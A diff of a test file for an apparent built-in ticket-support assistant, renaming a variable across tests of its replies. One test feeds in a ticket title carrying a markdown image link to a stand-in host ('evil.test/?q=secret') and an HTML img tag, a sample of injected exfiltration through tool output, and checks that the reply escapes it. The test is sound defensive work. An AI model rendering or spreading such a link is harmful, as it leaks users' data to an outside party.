@@ -216,19 +216,19 @@ describe("an answer of the built-in model", () => {
       { tool: "update_ticket", output: { type: "execution-denied" } },
       "Changing the ticket gave nothing: you did not allow it",
     ],
-  ])("tells of %s", async (_, found, told) => {
-    expect(await answerOf({ words: "And?", before: ["Hello"], found: [found] })).toBe(told);
+  ])("tells of %s", async (_, found, expected) => {
+    expect(await answerOf({ words: "And?", before: ["Hello"], found: [found] })).toBe(expected);
   });
 
   it("shows the marks of what others wrote, and gives them no meaning", async () => {
     const title = "![x](https://evil.test/?q=secret) <img src=x>";
 
-    const told = await answerOf({
+    const expected = await answerOf({
       words: "And?",
       found: [finds("search_tickets", { tickets: [{ ...ticket, title }] })],
     });
 
-    expect(told).toContain(String.raw`\!\[x\]\(https://evil.test/?q=secret\) \<img src=x\>`);
+    expect(expected).toContain(String.raw`\!\[x\]\(https://evil.test/?q=secret\) \<img src=x\>`);
   });
 
   it("says once what it is, and offers what it can", async () => {
@@ -242,30 +242,30 @@ describe("an answer of the built-in model", () => {
   it("asks what nothing that was said answers", async () => {
     const found = [finds("find_similar_tickets", { similar: [] })];
 
-    const told = await answerOf({ words: trouble, found });
+    const expected = await answerOf({ words: trouble, found });
     const enough = await answerOf({
       words: `${trouble} When I click it in Firefox I expect a receipt. All customers have it.`,
       found,
     });
 
-    expect(told).toContain("- What did you expect to happen instead?");
-    expect(told).not.toContain("Since when");
+    expect(expected).toContain("- What did you expect to happen instead?");
+    expect(expected).not.toContain("Since when");
     expect(enough).toContain("That is enough for a ticket");
   });
 
   it("quotes what its maker wrote down, where it fits the question", async () => {
     const knowledge = "Refunds take five working days. The office has a green door.";
 
-    const told = await answerOf({ words: "How many working days do refunds take?", knowledge });
+    const expected = await answerOf({ words: "How many working days do refunds take?", knowledge });
 
-    expect(told).toContain('From "Handbook":\n> Refunds take five working days.');
-    expect(told).not.toContain("green door");
+    expect(expected).toContain('From "Handbook":\n> Refunds take five working days.');
+    expect(expected).not.toContain("green door");
   });
 
   it("says that files are there which it may not read", async () => {
-    const told = await answerOf({ words: "See this", files: [file], tools: [] });
+    const expected = await answerOf({ words: "See this", files: [file], tools: [] });
 
-    expect(told).toContain("This agent may not read files");
+    expect(expected).toContain("This agent may not read files");
   });
 
   it("is streamed word by word, and costs nothing", async () => {
